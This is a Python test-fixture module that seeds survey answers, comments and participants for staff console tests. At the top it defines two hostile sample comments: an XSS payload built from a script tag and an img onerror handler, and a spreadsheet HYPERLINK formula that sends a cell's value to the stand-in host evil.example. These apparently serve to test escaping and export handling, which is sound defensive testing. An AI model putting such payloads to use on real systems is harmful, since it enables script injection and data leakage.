"""Answers, comments and people for staff console tests, written through the real storage API."""

from __future__ import annotations

from datetime import datetime, timedelta
from typing import Any

from storage.conversations.store import Store

HOSTILE_COMMENT = '<script>window.__pwned = true</script><img src=x onerror="window.__pwned=true"> too hot'
FORMULA_COMMENT = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def seed_answers(store: Store, clock: Any, *, good: int = 12, ok: int = 7, poor: int = 3) -> None:
    """A demo pack answered good/ok/poor by that many people, 19 hours apart (`clock.advance` moves the
    store's clock), over SMS and the web chat, with a written answer from every fourth person."""
    n = 0
    for value, count in (("good", good), ("ok", ok), ("poor", poor)):
        for _ in range(count):
            n += 1
            submission = f"seed-{n}"
            async with store.unit() as uow:
                await uow.start_submission(submission, None, "demo", 1, "en", "sms" if n % 3 else "web")
                await uow.record_answer(submission, "overall", value=value, number=None, text=None, skipped=False)
                await uow.record_answer(submission, "listened", value=str(1 + n % 3), number=None, text=None,
                                        skipped=False)
                if n % 4 == 0:
                    await uow.record_answer(submission, "better", value=None, number=None,
                                            text=f"Comment number {n}: the waiting room was cold.", skipped=False)
                await uow.finish_submission(submission, "completed")
            clock.advance(hours=19)


async def seed_comment(store: Store, text: str, *, submission: str = "seed-comment") -> None:
    async with store.unit() as uow:
        await uow.start_submission(submission, None, "demo", 1, "en", "telegram")
        await uow.record_answer(submission, "better", value=None, number=None, text=text, skipped=False)


async def seed_people(
    store: Store, count: int, *, channel: str = "sms", updates: bool = True, first: int = 0
) -> list[int]:
    ids = []
    for n in range(first, first + count):
        async with store.unit() as uow:
            person = await uow.participant(channel, f"+4477009{n:05d}" if channel == "sms" else str(700000 + n))
            await uow.save_conversation(person.id, None, "en")
            if updates:
                await uow.set_consent(person.id, "updates", True)
            ids.append(person.id)
    return ids


def days_before(moment: datetime, days: int) -> datetime:
    return moment - timedelta(days=days)
